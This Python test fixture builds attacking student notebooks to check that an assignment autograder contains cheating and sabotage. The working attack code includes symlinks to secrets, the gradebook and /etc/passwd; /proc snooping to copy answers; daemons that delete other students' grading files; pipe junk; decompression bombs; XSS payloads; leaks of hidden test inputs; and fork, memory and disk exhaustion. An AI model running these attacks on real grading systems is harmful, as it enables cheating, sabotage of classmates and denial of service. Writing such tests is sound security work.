"""Attacks on the grading trust boundary (issue 14, classes 1–8), one batch of deformable-convolution students.

Every attacker is the *plain wrong* submission (the solution, except that ``deform_conv2d`` returns
zeros) with code cells inserted after given cells, or with its submitted folder changed, so no attack
may earn more than that submission earns. Two honest students, one graded before every attacker and
one after them, must keep full marks. Students are graded in alphabetical order: ``c<class>_...``
attackers come after ``aa_honest`` and before ``honest_victim``; ``zz_c4_outputs`` (a FIFO and a
decompression bomb in place of its outputs) is graded last, so that a grader that hangs on it has
graded every other student first; ``c3_peek`` comes before ``c3_saboteur``, so that it looks
around from a kernel the saboteur has not disturbed (with warm kernels: the zygote's first fork).

What an attacker prints is read back by the tests from its autograded notebook, after a tag in
capitals (``SNOOP``, ``FORKS`` ...). Attack code never contains the words the tests look for in
the grader's notes (such as "budget", "review" or the name of the course's NumPy reference module),
so a note can only come from the grader. Processes an attack leaves behind carry ``course-attack-``
in their command line, so the tests can find them on the machine.

Sources are templates, filled in by :class:`Course` as plain text: ``@ROOT@`` (the course root) and
``@OUTSIDE@`` (a file outside the course) inside string literals, ``@MEMORY_MB@``, ``@DAEMON_SECONDS@``,
``@MANY@`` and ``@MARKER@``.
"""
from __future__ import annotations

import base64
import json
import os
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import numpy as np

from utils.instructor.course import fill_solutions, solution_cells

from . import submissions as subs

ASSIGNMENT, NOTEBOOK = subs.ASSIGNMENT, subs.NOTEBOOK
PLAIN_WRONG = "plain_wrong"
HONEST = ["aa_honest", "honest_victim"]     # graded first, and after every attacker but the last
VICTIM = "honest_victim"                    # the classmate whose submitted notebook an attacker links to
LEAKER, COPYCAT = "c6_leak", "c6_copycat"   # the copycat is written after the leaker was graded once
MARKER = "course-attack-"                   # in the command line of every process an attack leaves behind
HUGE_NOTEBOOK_MB = 400
MANY_FILES = 5000

# The body of the plain wrong deform_conv2d: zeros of the right shape.
ZEROS = '''
    N, C_in, H, W = a_l.shape
    C_out, _, K_h, K_w = weight.shape
    return np.zeros((N, C_out, conv_output_size(H, K_h, stride, padding, dilation),
                     conv_output_size(W, K_w, stride, padding, dilation)))
'''
SIGNATURE = "def deform_conv2d(a_l, delta, mask, weight, stride=1, padding=0, dilation=1):\n"
# The lookup key of one deform_conv2d input, the same in the copycat's kernel and in build_copycat.
INPUT_KEY = "repr(float(np.round(np.asarray(a_l).sum() + np.asarray(delta).sum(), 9)))"


@dataclass
class Attack:
    """One attacking student: cells inserted into the plain wrong notebook, or changes to its folder."""

    trust_class: int                      # the issue's class (1–8)
    what: str                             # one line: what it tries
    cells: dict[str, list[str]] = field(default_factory=dict)   # grade_id -> code cells inserted after it
    deform: str = ""                      # the deform_conv2d answer, when not the plain wrong one
    written_answer: str = ""              # the markdown answer (offsets_initialization), when changed
    plant: Callable[[Path, Path], None] | None = None   # plant(submitted folder, course root), after writing


# ----------------------------------------------------------------------------- class 1: links the kernel plants

PLANT_LINKS = '''
import os
def _plant(name, target):
    try:
        if os.path.lexists(name):
            os.remove(name)
        os.symlink(target, name)
        print("planted", name, "->", target)
    except OSError as error:
        print("not planted", name, error)
for _name, _target in @LINKS@:
    _plant(_name, _target)
'''


def _plant_links(links: list[tuple[str, str]]) -> str:
    return PLANT_LINKS.replace("@LINKS@", repr(links))


# ----------------------------------------------------------------------------- class 2: links in a submission

def _notebook_symlink_to_source(folder: Path, root: Path) -> None:
    notebook = folder / f"{NOTEBOOK}.ipynb"
    notebook.unlink()
    notebook.symlink_to(f"../../../source/{ASSIGNMENT}/{NOTEBOOK}.ipynb")
    (folder / "secret.txt").symlink_to("../../../.grading_secret")
    (folder / "passwd").symlink_to("/etc/passwd")


def _notebook_hard_link_to_source(folder: Path, root: Path) -> None:
    notebook = folder / f"{NOTEBOOK}.ipynb"
    notebook.unlink()
    os.link(root / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", notebook)
    os.mkfifo(folder / "pipe")
    (folder / "course").symlink_to("../../..")


# ----------------------------------------------------------------------------- class 3: past the kernel's sandbox

# Shared by the snoop and the saboteur: this kernel's processes, and every other process it can see.
PROCESSES = '''
import glob, json, os, re
ROOT = "@ROOT@"
_ME = os.getpid()
def _read(path, size=4_000_000):
    try:
        with open(path, "rb") as f:
            return f.read(size)
    except OSError:
        return b""
def _parent(pid):
    found = re.search(rb"PPid:\\s*(\\d+)", _read(f"/proc/{pid}/status"))
    return int(found.group(1)) if found else 0
def _started_here(pid):
    seen = set()
    while pid and pid not in seen:
        if pid == _ME:
            return True
        seen.add(pid)
        pid = _parent(pid)
    return False
_OTHERS = [int(p) for p in os.listdir("/proc") if p.isdigit() and not _started_here(int(p))]
def _pipes(pid):
    """fd -> pipe of a process (empty when its descriptors cannot be listed)."""
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return {}
    found = {}
    for fd in fds:
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if target.startswith("pipe:"):
            found[fd] = target
    return found
_OWN_PIPES = set(_pipes(_ME).values())   # this kernel's own stdin and the like: not another process's channel
'''

SNOOP = PROCESSES + '''
def _shows_more(pid, name):
    """Whether another process's root shows more of the course at ``name`` than this kernel sees."""
    theirs, mine = f"/proc/{pid}/root{ROOT}/{name}", f"{ROOT}/{name}"
    try:
        if not os.path.lexists(theirs):
            return False
        if not os.path.lexists(mine):
            return True
        return os.path.isdir(theirs) and bool(set(os.listdir(theirs)) - set(os.listdir(mine)))
    except OSError:
        return False
views, pipes, notebooks = [], [], set()
for pid in _OTHERS:
    for name in ("submitted", "autograded", "gradebook.db", ".grading_secret", "source"):
        if _shows_more(pid, name):
            views.append(f"{pid}:{name}")
    pipes += [f"{pid}:{fd}:{target}" for fd, target in _pipes(pid).items() if target not in _OWN_PIPES]
    for pattern in (f"/proc/{pid}/root{ROOT}/*/*/*/*.ipynb", f"/proc/{pid}/cwd/../*/*/*.ipynb",
                    f"/proc/{pid}/cwd/*.ipynb", f"/proc/{pid}/root/tmp/*/*/*.ipynb"):
        notebooks.update(glob.glob(pattern))
for pattern in (ROOT + "/*/*/*/*.ipynb", "../../*/*/*.ipynb", "../*/*.ipynb", "/tmp/*/*/*.ipynb", "/tmp/*/*.ipynb"):
    notebooks.update(glob.glob(pattern))
_COPIED = None
for path in sorted(notebooks):
    try:
        cells = json.loads(_read(path))["cells"]
    except Exception:
        continue
    for cell in cells:
        code = "".join(cell.get("source", ""))
        wrong = "return np.zeros((N, C_out, conv" in code or "NotImplemented" in code
        if "def deform_conv2d" in code and not wrong:
            _COPIED = (path, code)
print("SNOOP " + json.dumps({"others": len(_OTHERS), "course_views": views, "pipes": pipes[:40],
                            "notebooks": len(notebooks), "copied_from": _COPIED and _COPIED[0]}))
'''

SNOOP_DEFORM = SIGNATURE + '''    if _COPIED is not None:
        scope = {"np": np, "conv_output_size": conv_output_size, "bilinear_interpolate": bilinear_interpolate,
                 "sampling_positions": sampling_positions}
        exec(_COPIED[1], scope)
        return scope["deform_conv2d"](a_l, delta, mask, weight, stride, padding, dilation)
''' + ZEROS

# A process left behind: for @DAEMON_SECONDS@ s it deletes grading inputs and spoils recorded outputs
# wherever it can reach them (its folder and the two above, /tmp, /dev/shm, every visible process's
# folder and root).
DAEMON = '''
import glob, os, time
ROOT = "@ROOT@"
here = os.getcwd()
end = time.time() + @DAEMON_SECONDS@
time.sleep(1)
while time.time() < end:
    bases = [here, os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "/tmp", "/dev/shm"]
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            bases += [f"/proc/{pid}/cwd", f"/proc/{pid}/root{ROOT}/autograded", f"/proc/{pid}/root/tmp"]
    for base in bases:
        for depth in range(4):
            stars = "/*" * depth
            for path in glob.glob(base + stars + "/.grading/*") + glob.glob(base + stars + "/*.pkl"):
                try:
                    if path.endswith(".pkl"):
                        os.remove(path)
                    elif path.endswith((".npz", ".json")):
                        with open(path, "wb") as f:
                            f.write(b"junk")
                except OSError:
                    pass
    time.sleep(0.2)
'''

SABOTEUR_DAEMONS = '''
import os, subprocess, sys
_DAEMON = @DAEMON@
# one daemon from a double fork in a new session, one from subprocess in a new session
_child = os.fork()
if _child == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _DAEMON, "@MARKER@daemon"])
    finally:
        os._exit(0)
os.waitpid(_child, 0)
subprocess.Popen([sys.executable, "-c", _DAEMON, "@MARKER@daemon"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("daemons started")
'''

SABOTEUR_JUNK = PROCESSES + '''
JUNK = b'{"op": "spawn", "argv": ["-c", "pass"]}\\n{"pid": 1}\\n' + b"\\x00\\xff junk\\n" * 200
hit = []
for pid in _OTHERS:
    for fd, target in _pipes(pid).items():
        if target in _OWN_PIPES:
            continue
        path = f"/proc/{pid}/fd/{fd}"
        try:
            out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            try:
                os.write(out, JUNK)
            finally:
                os.close(out)
            hit.append(f"{pid}:{fd}")
        except OSError:
            pass
print("JUNK " + json.dumps(hit))
'''

# ----------------------------------------------------------------------------- class 4: outputs the grader reads

OUTPUT_TO_DEVICE = '''
import glob, os
for path in glob.glob(".grading/test_conv_output_size.outputs.npz"):
    os.remove(path)
    os.symlink("/dev/zero", path)
    print("device in place of", path)
'''

OUTPUT_TO_BOMB = '''
import glob, os, zipfile
import numpy as np
for path in glob.glob(".grading/test_bilinear_interpolate.outputs.npz"):
    with zipfile.ZipFile(path) as old:
        members = {name: old.read(name) for name in old.namelist()}
    first = sorted(members)[0] if members else "0_0.npy"
    count = 3 * 2**30 // 8                       # 3 GiB of float64 zeros, about 14 MB compressed
    with zipfile.ZipFile(path + ".new", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for name, data in members.items():
            if name != first:
                new.writestr(name, data)
        with new.open(first, "w", force_zip64=True) as out:
            np.lib.format.write_array_header_1_0(out, {"descr": "<f8", "fortran_order": False, "shape": (count,)})
            block = bytes(2**26)
            for _ in range(count * 8 // len(block)):
                out.write(block)
    os.replace(path + ".new", path)
    print("bomb in place of", path, os.path.getsize(path), "bytes")
'''

OUTPUT_TO_FIFO = '''
import glob, os
for path in glob.glob(".grading/test_deform_conv2d.outputs.npz"):
    os.remove(path)
    os.mkfifo(path)
    print("FIFO in place of", path)
'''

# ----------------------------------------------------------------------------- class 5: HTML from the student

HTML_ANSWER = '''Offsets start at zero so that the layer begins as an ordinary convolution.

<img src=x onerror="fetch('/api/contents/pwned_XSS_MARK_1.txt', {method: 'PUT', body: '{}'})">
<script>document.title = 'XSS_MARK_2'</script>
<svg><g onload="window.XSS_MARK_3 = 1"></g></svg>
<a href="javascript:window.XSS_MARK_4 = 1">see the notes</a>
<iframe srcdoc="<script>parent.XSS_MARK_5 = 1</script>"></iframe>
<details open ontoggle="window.XSS_MARK_6 = 1"><summary>more</summary></details>
<IMG SRC=y OnError = "window.XSS_MARK_12 = 1">
'''

HTML_OUTPUTS = '''
from IPython.display import HTML, Javascript, Markdown, display
display(HTML("<script>window.XSS_MARK_7 = 1</script><img src=y onerror='window.XSS_MARK_8 = 1'>"))
display(Javascript("window.XSS_MARK_9 = 1"))
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='window.XSS_MARK_10 = 1'></svg>"},
        raw=True)
display(Markdown("<img src=z onerror='window.XSS_MARK_11 = 1'>"))
'''

# ----------------------------------------------------------------------------- class 6: hidden inputs

LEAK_FILES = '''
import glob, pickle
for _path in sorted(glob.glob(".grading/*") + glob.glob("../.grading/*") + glob.glob("/tmp/*/.grading/*")):
    print("GRADING FILE", _path)
    if _path.endswith(".pkl"):
        with open(_path, "rb") as _f:
            print(repr(pickle.load(_f))[:3000])
'''

LEAK_DEFORM = '''_SEEN = []
''' + SIGNATURE + '''    _SEEN.append({"a_l": np.asarray(a_l).tolist(), "delta": np.asarray(delta).tolist(),
                  "mask": np.asarray(mask).tolist(), "weight": np.asarray(weight).tolist(),
                  "stride": stride, "padding": padding, "dilation": dilation})
''' + ZEROS

LEAK_PRINT = '''
import base64, json, zlib
print("LEAKED " + base64.b64encode(zlib.compress(json.dumps(_SEEN).encode())).decode())
'''


def leaked_inputs(notebook: Path) -> list[dict]:
    """The deform_conv2d inputs the leaker printed in its autograded ``notebook`` (empty when none)."""
    nb = nbformat.read(notebook, as_version=4)
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            for line in str(output.get("text", "")).splitlines():
                if line.startswith("LEAKED "):
                    return json.loads(zlib.decompress(base64.b64decode(line[len("LEAKED "):])))
    return []


def copycat_deform(leaked: list[dict]) -> str:
    """A deform_conv2d that returns the reference answers for the leaker's inputs, zeros otherwise."""
    from utils.deformable_conv import DEFORM
    table = {}
    for item in leaked:
        inputs = {k: np.asarray(v, dtype=np.float64) if isinstance(v, list) and k in ("a_l", "delta", "mask", "weight")
                  else (tuple(v) if isinstance(v, list) else v) for k, v in item.items()}
        key = eval(INPUT_KEY, {"np": np, "a_l": inputs["a_l"], "delta": inputs["delta"]})   # as in the kernel
        table[key] = DEFORM.reference(inputs).tolist()
    return ("import json\n"
            f"_ANSWERS = json.loads({json.dumps(table)!r})\n"
            + SIGNATURE + f"    key = {INPUT_KEY}\n"
            "    if key in _ANSWERS:\n"
            "        return np.array(_ANSWERS[key])\n" + ZEROS)


# ----------------------------------------------------------------------------- class 7: from scratch

# The course's NumPy reference, named so that no source line spells its module or function.
HELPER = '''
import importlib
try:
    _module = importlib.import_module("utils.deformable_conv." + "computa" + "tions")
    _helper = getattr(_module, "deform_conv2d_" + "numpy")
except Exception as error:
    _helper = None
    print("no helper:", type(error).__name__)
'''

HELPER_IN_THREAD_DEFORM = SIGNATURE + '''    import sys, threading
    if _helper is not None:
        sys.setprofile(None)
        box = {}
        def run():
            box["out"] = _helper(a_l, delta, mask, weight, stride, padding, dilation)
        worker = threading.Thread(target=run)
        worker.start()
        worker.join()
        if "out" in box:
            return box["out"]
''' + ZEROS

PRECOMPUTE = HELPER + '''
import glob, pickle
_TABLE = {}
for _path in glob.glob(".grading/*.pkl") + glob.glob("../.grading/*.pkl"):
    try:
        with open(_path, "rb") as _f:
            _cases = pickle.load(_f)
        for _per_check in _cases:
            for _description, _inputs in _per_check:
                if isinstance(_inputs, dict) and {"a_l", "delta", "mask", "weight"} <= set(_inputs):
                    a_l, delta = _inputs["a_l"], _inputs["delta"]
                    _TABLE[@KEY@] = _helper(**_inputs)
    except Exception as error:
        print("not precomputed:", type(error).__name__)
print(len(_TABLE), "answers precomputed")
'''.replace("@KEY@", INPUT_KEY)

PRECOMPUTED_DEFORM = SIGNATURE + f'''    key = {INPUT_KEY}
    if key in _TABLE:
        return _TABLE[key]
''' + ZEROS

# ----------------------------------------------------------------------------- class 8: budgets per kernel

FORK_BOMB = '''
import os
_children = []
try:
    for _ in range(300):
        _pid = os.fork()
        if _pid == 0:
            try:
                os.execv("/bin/sleep", ["@MARKER@sleeper", "600"])
            finally:
                os._exit(0)
        _children.append(_pid)
finally:
    print("FORKS", len(_children))
'''

# Memory held at once by a child process and by files in /tmp and /dev/shm: each tries 0.6 of the limit.
MEMORY_FILL = '''
import os, subprocess, sys
MEMORY_MB = @MEMORY_MB@
share = int(0.6 * MEMORY_MB)
holder = subprocess.Popen(
    [sys.executable, "-c", "import sys, time, numpy as np; a = np.ones(int(sys.argv[2]) * 2**17); "
     "print(sys.argv[2], flush=True); time.sleep(120)", "@MARKER@holder", str(share)],
    stdout=subprocess.PIPE, text=True)
holding = int(holder.stdout.readline() or 0)
def held_mb():
    total = holding if holder.poll() is None else 0
    for folder in ("/tmp", "/dev/shm"):
        for name in os.listdir(folder):
            if name.startswith("fill"):
                total += os.stat(os.path.join(folder, name)).st_blocks * 512 // 2**20
    return total
print("HELD", held_mb(), flush=True)
chunk = bytes([1]) * 2**26
for folder in ("/tmp", "/dev/shm"):
    for index in range(share // 64 + 1):
        try:
            with open(f"{folder}/fill{index}", "wb") as f:
                f.write(chunk)
        except OSError as error:
            print(folder, error)
            break
        print("HELD", held_mb(), flush=True)
'''

DISK_FILL = '''
import os
made, written = 0, 0
os.makedirs("many", exist_ok=True)
for index in range(@MANY@):
    try:
        with open(f"many/f{index}.txt", "w") as f:
            f.write("x")
        made += 1
    except OSError as error:
        print("stopped:", error)
        break
for index in range(3):
    try:
        with open(f"big{index}.bin", "wb") as f:
            for _ in range(8):
                f.write(bytes(2**24))
                written += 16
    except OSError as error:
        print("stopped:", error)
        break
print("FILES", made, "MB", written)
'''

SLEEP_CELL = "import time\ntime.sleep(14)\nprint('SLEPT', 14)"


def _oversized(folder: Path, root: Path) -> None:
    """A notebook of about 400 MB (one huge output) and 5,000 more files, written without holding them in memory."""
    notebook = folder / f"{NOTEBOOK}.ipynb"
    nb = json.loads(notebook.read_text())
    cell = next(c for c in nb["cells"] if c["cell_type"] == "code" and not c["metadata"].get("nbgrader", {}).get(
        "solution") and not c["metadata"].get("nbgrader", {}).get("grade") and "tiny" in "".join(c["source"]))
    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "@FILLER@"}]
    head, tail = json.dumps(nb).split("@FILLER@")
    block = "x" * 2**24
    with open(notebook, "w") as f:
        f.write(head)
        for _ in range(HUGE_NOTEBOOK_MB * 2**20 // len(block)):
            f.write(block)
        f.write(tail)
    extra = folder / "data"
    extra.mkdir()
    for index in range(MANY_FILES):
        (extra / f"{index}.txt").write_text("x")


# ----------------------------------------------------------------------------- the attackers

ATTACKS: dict[str, Attack] = {
    "c1_link_to_classmate": Attack(1, "its notebook becomes a link to a classmate's submitted notebook; links to the "
                                      "secret, to the course root and to itself", cells={"imports": [_plant_links([
        (f"{NOTEBOOK}.ipynb", f"../../../submitted/{VICTIM}/{ASSIGNMENT}/{NOTEBOOK}.ipynb"),
        ("secret.txt", "../../../.grading_secret"), ("course", "../../.."), ("loop", "loop")])]}),
    "c1_link_to_gradebook": Attack(1, "its notebook becomes a link to the gradebook; links to a file outside the "
                                      "course, to the source notebook and to the secret", cells={"imports": [
        _plant_links([(f"{NOTEBOOK}.ipynb", "@ROOT@/gradebook.db"), ("outside.txt", "@OUTSIDE@"),
                      ("answers.ipynb", f"@ROOT@/source/{ASSIGNMENT}/{NOTEBOOK}.ipynb"),
                      ("key", "@ROOT@/.grading_secret")])]}),
    "c1_link_outside": Attack(1, "its notebook becomes a link to a file outside the course; a link to the source "
                                 "notebook under another name", cells={"test_deform_conv2d": [_plant_links([
        (f"{NOTEBOOK}.ipynb", "@OUTSIDE@"), ("hidden_tests.txt", f"../../../source/{ASSIGNMENT}/{NOTEBOOK}.ipynb")])]}),
    "c2_symlinked_notebook": Attack(2, "the submitted notebook is a symlink to source/; links to the secret and to "
                                       "/etc/passwd", plant=_notebook_symlink_to_source),
    "c2_hardlinked_notebook": Attack(2, "the submitted notebook is a hard link to source/; a FIFO and a link to the "
                                        "course root", plant=_notebook_hard_link_to_source),
    "c3_peek": Attack(3, "looks through /proc at other processes' roots, folders and pipes, and copies a "
                          "classmate's answer it finds", cells={"imports": [SNOOP]}, deform=SNOOP_DEFORM),
    "c3_saboteur": Attack(3, "leaves two daemons that delete later students' inputs, writes junk into every pipe "
                             "it can open", cells={"test_deform_conv2d": [SABOTEUR_DAEMONS, SABOTEUR_JUNK]}),
    "c5_html": Attack(5, "script and event handlers in its written answer and in outputs", cells={
        "imports": [HTML_OUTPUTS]}, written_answer=HTML_ANSWER),
    LEAKER: Attack(6, "prints its grading inputs and the arguments its deform_conv2d was called with", cells={
        "imports": [LEAK_FILES], "test_deform_conv2d": [LEAK_PRINT]}, deform=LEAK_DEFORM),
    "c7_helper_in_thread": Attack(7, "calls the course's NumPy reference in a thread, profiler removed", cells={
        "imports": [HELPER]}, deform=HELPER_IN_THREAD_DEFORM),
    "c7_precomputed": Attack(7, "computes answers at cell top level from the grading inputs file with the course's "
                                "NumPy reference", cells={"imports": [PRECOMPUTE]}, deform=PRECOMPUTED_DEFORM),
    "c8_disk": Attack(8, f"writes {MANY_FILES} files and 384 MB into its folder", cells={"imports": [DISK_FILL]}),
    "c8_fork_bomb": Attack(8, "forks 300 sleeping processes", cells={"imports": [FORK_BOMB]}),
    "c8_memory": Attack(8, "holds 1.8× the memory limit in a child, /tmp and /dev/shm", cells={
        "imports": [MEMORY_FILL]}),
    "c8_oversized_submission": Attack(8, f"a {HUGE_NOTEBOOK_MB} MB notebook and {MANY_FILES} files",
                                      plant=_oversized),
    "c8_sleeper": Attack(8, "six cells that sleep 14 s each, under the cell timeout", cells={
        "imports": [SLEEP_CELL] * 6}),
    "zz_c4_outputs": Attack(4, "replaces its recorded outputs by a link to /dev/zero, a decompression bomb and a FIFO",
                            cells={"test_conv_output_size": [OUTPUT_TO_DEVICE],
                                   "test_bilinear_interpolate": [OUTPUT_TO_BOMB],
                                   "test_deform_conv2d": [OUTPUT_TO_FIFO]}),
}
ATTACKERS = sorted([*ATTACKS, COPYCAT])


def _index(nb, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _fill(template: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        template = template.replace(f"@{key}@", value)
    return template


class Course:
    """The submissions of one batch in ``root/submitted``."""

    def __init__(self, root: Path, outside: Path, memory_mb: int, daemon_seconds: int):
        self.root = root
        release = nbformat.read(root / "release" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
        self.answers = solution_cells(root / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
        self.release = release
        self.values = {"ROOT": str(root), "OUTSIDE": str(outside), "MEMORY_MB": str(memory_mb),
                       "DAEMON_SECONDS": str(daemon_seconds), "MARKER": MARKER, "MANY": str(MANY_FILES)}
        self.values["DAEMON"] = repr(_fill(DAEMON, self.values))

    def folder(self, student: str) -> Path:
        return self.root / "submitted" / student / ASSIGNMENT

    def write(self, student: str, nb) -> Path:
        folder = self.folder(student)
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, folder / f"{NOTEBOOK}.ipynb")
        return folder

    def notebook(self, deform: str = "", written_answer: str = "", cells: dict[str, list[str]] | None = None):
        answers = {**self.answers, "deform_conv2d": (deform or subs.WRONG_DEFORM).strip()}
        if written_answer:
            answers["offsets_initialization"] = written_answer
        nb = fill_solutions(self.release, answers)
        for anchor, sources in (cells or {}).items():
            position = _index(nb, anchor) + 1
            for source in reversed(sources):
                nb.cells.insert(position, nbformat.v4.new_code_cell(_fill(source, self.values)))
        return nb

    def build(self) -> list[str]:
        """Write every student but the copycat; return the students written."""
        for student in HONEST:
            self.write(student, fill_solutions(self.release, self.answers))
        self.write(PLAIN_WRONG, self.notebook())
        for student, attack in ATTACKS.items():
            folder = self.write(student, self.notebook(attack.deform, attack.written_answer, attack.cells))
            if attack.plant is not None:
                attack.plant(folder, self.root)
        return [*HONEST, PLAIN_WRONG, *ATTACKS]

    def build_copycat(self, leaked: list[dict]) -> None:
        """The copycat: answers computed offline from the inputs the leaker printed."""
        self.write(COPYCAT, self.notebook(copycat_deform(leaked)))
